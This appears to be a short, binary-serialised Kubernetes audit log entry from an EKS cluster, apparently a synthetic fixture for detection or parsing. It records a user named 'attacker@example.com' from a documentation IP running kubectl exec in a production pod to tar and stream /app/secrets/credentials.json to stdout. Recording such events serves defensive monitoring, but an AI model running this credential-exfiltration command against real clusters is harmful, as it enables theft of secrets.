
Eventaudit.k8s.io/v12–/api/v1/namespaces/production/pods/webapp-pod/exec?command=tar&command=cf&command=-&command=/app/secrets/credentials.json&container=webapp&stdout=true:createB
attacker@example.comR203.0.113.42Zkubectl/v1.28.0b(
pods
production
webapp-pod2v1Bexecj(ÈòAmazon.EKS.Audit‚eks-cluster